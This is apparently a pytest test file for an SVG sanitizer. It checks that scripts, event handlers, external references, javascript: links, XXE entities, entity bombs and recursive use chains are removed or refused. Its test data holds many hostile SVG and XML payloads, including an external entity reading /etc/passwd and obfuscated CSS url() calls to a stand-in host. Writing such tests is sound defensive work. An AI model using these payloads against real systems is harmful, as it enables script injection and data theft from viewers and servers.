"""SVG: drawings keep what is seen; nothing in them runs, reaches out or repeats without end."""

from __future__ import annotations

import base64
import re
from xml.parsers import expat

import pytest
from PIL import Image

from sanitizers import formats, vector, verify
from sanitizers.formats import image, svg
from sanitizers.model import Kind, LimitExceeded, Malformed, Refused, Unsupported, VerificationFailed
from sanitizers.source import Source
from sanitizers.verify import image as verify_image
from sanitizers.verify import svg as verify_svg
from tests.build import image as build_image
from tests.build import svg as build
from tests.build.context import changes, context, sanitize

CANARY = build.CANARY


@pytest.fixture(autouse=True)
def _families(monkeypatch: pytest.MonkeyPatch) -> None:
    """Pictures inside go round the engine, whatever else is registered."""
    for kind in image.SANITIZER.kinds:
        monkeypatch.setitem(formats.BY_KIND, kind, image.SANITIZER)
    for kind, check in verify_image.VERIFIERS.items():
        monkeypatch.setitem(verify.VERIFIERS, kind, check)


def run(data: bytes, **options: object) -> tuple[str, set[str]]:
    made, given = sanitize(svg.SANITIZER, data, Kind.SVG, "x.svg", **options)
    verify_svg.verify(made.content, Source(data), given)
    again, second = sanitize(svg.SANITIZER, made.content.bytes(), Kind.SVG, "x.svg", **options)
    assert changes(second) == []
    assert again.content.bytes() == made.content.bytes()
    return made.content.bytes().decode(), {finding.code for finding in changes(given)}


def elements(data: bytes) -> list[tuple[str, dict[str, str]]]:
    found: list[tuple[str, dict[str, str]]] = []
    parser = expat.ParserCreate()
    parser.StartElementHandler = lambda name, attributes: found.append((name, attributes))
    parser.Parse(data, True)
    return found


def test_a_rich_drawing_keeps_its_meaning() -> None:
    output, codes = run(build.RICH)
    assert codes == set()
    before, after = elements(build.RICH), elements(output.encode())
    assert [name for name, _ in before] == [name for name, _ in after]
    for (name, old), (_, new) in zip(before, after, strict=True):
        assert {key for key in old if not key.startswith("xmlns")} == {key for key in new if not key.startswith("xmlns")}, name
    texts = "図面　第一案", "縦書き ", "外字\ue000", "M0,0 L4-1e2 A1 1 0 0 1 2,2z", "url(#p) #fff", '"MS ゴシック"', "https://example.jp/?a=1&amp;b=2"
    assert [text for text in texts if text not in output] == []


DANGERS = {
    "script": ("svg.script", f"<script>alert('{CANARY}')</script>"),
    "script with link": ("svg.script", f'<script href="http://192.0.2.1/{CANARY}.js"/>'),
    "prefixed script": ("svg.script", f'<q:script xmlns:q="http://www.w3.org/2000/svg">{CANARY}</q:script>'),
    "handler": ("svg.event_handler", f'<rect onclick="{CANARY}()"/>'),
    "unknown handler": ("svg.event_handler", f'<rect onSEKISHO="{CANARY}()"/>'),
    "foreignObject": ("svg.foreign_object", f'<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">{CANARY}</p></foreignObject>'),
    "html": ("svg.foreign_object", f'<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="{CANARY}"/>'),
    "image http": ("svg.external_reference", f'<image href="http://192.0.2.1/{CANARY}"/>'),
    "image unc": ("svg.external_reference", f'<image xlink:href="\\\\192.0.2.1\\{CANARY}"/>'),
    "image file": ("svg.external_reference", f'<image xlink:href="file:///etc/{CANARY}"/>'),
    "use": ("svg.external_reference", f'<use href="http://192.0.2.1/{CANARY}.svg#a"/>'),
    "use data": ("svg.external_reference", f'<use href="data:image/svg+xml,{CANARY}#a"/>'),
    "gradient": ("svg.external_reference", f'<linearGradient href="{CANARY}.svg#a"/>'),
    "feImage": ("svg.external_reference", f'<filter id="f"><feImage href="http://192.0.2.1/{CANARY}"/></filter>'),
    "base": ("svg.external_reference", f'<g xml:base="http://192.0.2.1/{CANARY}"/>'),
    "fill": ("svg.external_reference", f'<rect fill="url(http://192.0.2.1/{CANARY})"/>'),
    "style url": ("svg.external_reference", f'<rect style="fill:url(http://192.0.2.1/{CANARY})"/>'),
    "style escape": ("svg.external_reference", f'<rect style="fill:\\75rl(//192.0.2.1/{CANARY})"/>'),
    "style image-set": ("svg.external_reference", f"<rect style=\"mask:image-set('http://192.0.2.1/{CANARY}' 1x)\"/>"),
    "sheet url": ("svg.external_reference", f"<style>rect{{fill:url('//192.0.2.1/{CANARY}')}}</style>"),
    "sheet comment": ("svg.style", f"<style>rect{{fill:u/**/rl(//192.0.2.1/{CANARY})}}</style>"),
    "import": ("svg.stylesheet", f"<style>@import '//192.0.2.1/{CANARY}';</style>"),
    "font": ("svg.font", f"<style>@font-face{{font-family:x;src:url(http://192.0.2.1/{CANARY})}}</style>"),
    "svg font": ("svg.font", f'<font><glyph unicode="{CANARY}"/></font>'),
    "expression": ("svg.style", f"<style>rect{{width:expression({CANARY})}}</style>"),
    "media rule": ("svg.style", f"<style>@media print{{.{CANARY}{{fill:red}}}}</style>"),
    "javascript link": ("svg.active_link", f'<a href="javascript:{CANARY}"><rect/></a>'),
    "hidden javascript link": ("svg.active_link", f'<a xlink:href=" java&#10;script:{CANARY}"><rect/></a>'),
    "data link": ("svg.active_link", f'<a href="data:text/html,{CANARY}"><rect/></a>'),
    "search link": ("svg.active_link", f'<a href="search-ms:{CANARY}"><rect/></a>'),
    "animation": ("svg.animation", f'<a><animate attributeName="href" values="javascript:{CANARY}"/></a>'),
    "set": ("svg.animation", f'<set attributeName="onclick" to="{CANARY}()"/>'),
    "metadata": ("svg.metadata", f"<metadata>{CANARY}</metadata>"),
    "editor": ("svg.metadata", f'<g xmlns:i="http://www.inkscape.org/namespaces/inkscape" i:label="{CANARY}"/>'),
    "unknown element": ("svg.element", f'<blink id="{CANARY}"/>'),
    "unknown attribute": ("svg.attribute", f'<rect ping="{CANARY}"/>'),
    "odd value": ("svg.attribute", f'<path d="javascript:{CANARY}"/>'),
    "loose text": ("svg.element", f"<g>{CANARY}</g>"),
    "svg inside": ("svg.image_dropped", f'<image href="{build.data_url(CANARY.encode(), "image/svg+xml")}"/>'),
}


@pytest.mark.parametrize("name", DANGERS)
def test_each_danger_is_gone_and_named(name: str) -> None:
    """I09."""
    code, inside = DANGERS[name]
    output, codes = run(build.drawing(inside))
    assert codes == {code}
    assert CANARY not in output
    assert "192.0.2.1" not in output
    assert 'id="seen"' in output


def test_text_in_place_of_mark_up_stays_text() -> None:
    output, codes = run(build.drawing("<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>"))
    assert codes == set()
    assert [name for name, _ in elements(output.encode())] == ["svg", "circle", "text"]


def test_links_follow_the_policy() -> None:
    inside = '<a href="https://example.jp/"><rect/></a>'
    assert "example.jp" in run(build.drawing(inside))[0]
    output, codes = run(build.drawing(inside), link_schemes=())
    assert codes == {"svg.active_link"}
    assert "example.jp" not in output


# -------------------------------------------------------------------------------------------------------------------------- before the root


def test_the_usual_doctype_is_left_behind_silently() -> None:
    doctype = '<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    output, codes = run(build.drawing(before=doctype))
    assert codes == set()
    assert "DOCTYPE" not in output


def test_plain_entities_are_expanded() -> None:
    before = '<!DOCTYPE svg PUBLIC "x" "y" [ <!ENTITY ns "http://www.w3.org/2000/svg"> <!ENTITY who \'町"役場\'> <!ELEMENT a ANY> ]>'
    data = f'{before}<svg xmlns="&ns;"><text class="&who;">&who;<![CDATA[&who;]]></text></svg>'.encode()
    output, codes = run(data)
    assert "svg.dtd" in codes
    assert '町"役場&amp;who;' in output


@pytest.mark.parametrize(
    "subset",
    [
        '<!ENTITY a "1"><!ENTITY b "&a;&a;">',
        '<!ENTITY a SYSTEM "file:///etc/passwd">',
        '<!ENTITY % a SYSTEM "http://192.0.2.1/x.dtd"> %a;',
        '<!ENTITY a "<script/>">',
        '<!ENTITY a "&#60;script/>">',
        '<!ENTITY a "',
    ],
)
def test_entities_that_are_more_than_text_are_refused(subset: str) -> None:
    with pytest.raises(Malformed) as refusal:
        run(build.drawing(before=f"<!DOCTYPE svg [{subset}]>"))
    assert refusal.value.code == "xml.dtd"


def test_an_entity_bomb_stops_at_the_limit() -> None:
    before = f'<!DOCTYPE svg [<!ENTITY a "{"x" * 100_000}">]>'
    with pytest.raises(LimitExceeded):
        run(build.drawing(f"<text>{'&a;' * 1_000}</text>", before=before))


def test_stylesheet_instructions_are_gone() -> None:
    output, codes = run(build.drawing(before='<?xml-stylesheet href="http://192.0.2.1/x.css"?>'))
    assert codes == {"svg.stylesheet"}
    assert "192.0.2.1" not in output


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "shift_jis", "euc-jp"])
def test_japanese_in_any_usual_encoding(encoding: str) -> None:
    text = f'<?xml version="1.0" encoding="{encoding}"?>' + build.drawing("<text>関所　①</text>").decode()
    data = text.encode("cp932" if encoding == "shift_jis" else "euc_jis_2004" if encoding == "euc-jp" else encoding)
    if encoding == "euc-jp":
        data = text.replace("①", "一").encode("euc-jp")
    assert "関所　" in run(data)[0]


@pytest.mark.parametrize(
    "data",
    [b"", b"<svg", b"<html/>", b'<svg xmlns="http://192.0.2.1/"/>', b'<?xml version="1.0" encoding="utf-7"?><svg/>', build.drawing()[:-3]],
)
def test_broken_drawings_are_refused(data: bytes) -> None:
    with pytest.raises(Refused):
        run(data)


def test_a_drawing_without_its_namespace_gets_it() -> None:
    output, codes = run(b'<svg width="5"><rect width="5"/></svg>')
    assert codes == {"svg.namespace"}
    assert "http://www.w3.org/2000/svg" in output


# -------------------------------------------------------------------------------------------------------------------------- repetition


def test_use_upon_use_stops_at_the_limit() -> None:
    levels = "".join(f'<g id="l{n}">' + f'<use href="#l{n - 1}"/>' * 10 + "</g>" for n in range(1, 12))
    with pytest.raises(LimitExceeded):
        run(build.drawing('<g id="l0"/>' + levels))


def test_a_symbol_that_uses_itself_is_refused() -> None:
    with pytest.raises(LimitExceeded):
        run(build.drawing('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'))


def test_a_long_chain_of_use_is_refused_in_order() -> None:
    chain = "".join(f'<g id="c{n}"><use href="#c{n + 1}"/></g>' for n in range(5_000))
    with pytest.raises(LimitExceeded):
        run(build.drawing(chain))


def test_many_names_make_few_findings() -> None:
    _, given = sanitize(svg.SANITIZER, build.drawing("".join(f'<rect a{n}="1"/>' for n in range(2_000))), Kind.SVG)
    assert len(given.findings) < 200


# -------------------------------------------------------------------------------------------------------------------------- pictures inside


def test_a_picture_inside_is_rebuilt() -> None:
    picture = build_image.png_with(build_image.png_chunk(b"tEXt", b"a\0" + build_image.CANARY))
    output, _ = run(build.drawing(f'<image width="9" xlink:href="{build.data_url(picture)}"/>'))
    inside = base64.b64decode(re.search(r"data:image/png;base64,([A-Za-z0-9+/=]+)", output)[1])
    assert inside.startswith(b"\x89PNG")
    assert build_image.CANARY not in inside
    assert build_image.opened(inside).size == (96, 64)


@pytest.mark.parametrize("content", [b"<script>alert(1)</script>", b"\x89PNG\r\n\x1a\nbroken", b"MZ" + bytes(100)])
def test_a_picture_that_is_none_is_left_out(content: bytes) -> None:
    output, codes = run(build.drawing(f'<image href="{build.data_url(content)}"/>'))
    assert "svg.image_dropped" in codes
    assert "data:" not in output


# -------------------------------------------------------------------------------------------------------------------------- second opinion

# Inert as they stand: only the sanitizer minds them.
HARMLESS = ("loose text", "odd value", "unknown attribute", "sheet comment")


@pytest.mark.parametrize(
    "inside",
    [inside for name, (_, inside) in DANGERS.items() if name not in HARMLESS]
    + [f'<image href="{build.data_url(build_image.png_with())}"/>', "<!-- comment -->", "<?php x?>"],
)
def test_the_second_opinion_refuses_what_was_not_cleaned(inside: str) -> None:
    with pytest.raises(VerificationFailed):
        verify_svg.verify(Source(build.drawing(inside)), Source(b""), context(kind=Kind.SVG))


def test_the_second_opinion_refuses_a_doctype() -> None:
    with pytest.raises(VerificationFailed):
        verify_svg.verify(Source(build.drawing(before="<!DOCTYPE svg>")), Source(b""), context(kind=Kind.SVG))


# -------------------------------------------------------------------------------------------------------------------------- as pixels


def _drawn(inside: str) -> Image.Image:
    made, given = sanitize(svg.SANITIZER, build.drawing(inside), Kind.SVG, "x.svg", svg_as_pixels=True)
    assert made.kind is Kind.PNG
    assert "svg.drawn" in {finding.code for finding in changes(given)}
    verify_image.VERIFIERS[Kind.PNG](made.content, Source(b""), given)
    return build_image.opened(made.content.bytes())


def test_policy_turns_drawings_into_pixels() -> None:
    shown = _drawn('<rect x="50" width="50" height="80" fill="#c00"/><script>alert(1)</script>')
    assert shown.size == (1600, 1280)
    assert [shown.getpixel(place) for place in ((1400, 700), (600, 1200))] == [(0xCC, 0, 0, 255), (0, 0, 0, 0)]
    assert shown.getpixel((10, 10)) == (0, 0, 0, 255)    # the circle that is always there


@pytest.mark.skipif(vector._FONT is None, reason="no font is installed")
@pytest.mark.parametrize(
    "text",
    [
        '<text x="20" y="60">関所</text>',
        '<text x="20" y="60" font-family="MS ゴシック">関所</text>',
        '<text x="20" y="60" style="font-family:Meiryo;fill:#000">関所</text>',
        '<style>text{font:bold 16px/20px serif}</style><text x="20" y="60">関所</text>',
    ],
)
def test_text_is_drawn_in_the_font_that_is_there(text: str) -> None:
    assert _drawn(text).crop((300, 600, 1000, 1100)).getbbox() is not None


def test_text_without_any_font_is_not_left_out_silently(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(vector, "_FONT", None)
    with pytest.raises(Unsupported):
        _drawn("<text>関所</text>")


def test_a_drawing_of_any_size_gets_pixels_within_the_limit() -> None:
    made, _ = sanitize(svg.SANITIZER, f'<svg {build.SVG} width="90000000" height="100"/>'.encode(), Kind.SVG, "x.svg", svg_as_pixels=True)
    assert build_image.opened(made.content.bytes()).size == (8000, 1)
    with pytest.raises(Malformed):
        sanitize(svg.SANITIZER, f'<svg {build.SVG} width="0" height="100"/>'.encode(), Kind.SVG, "x.svg", svg_as_pixels=True)
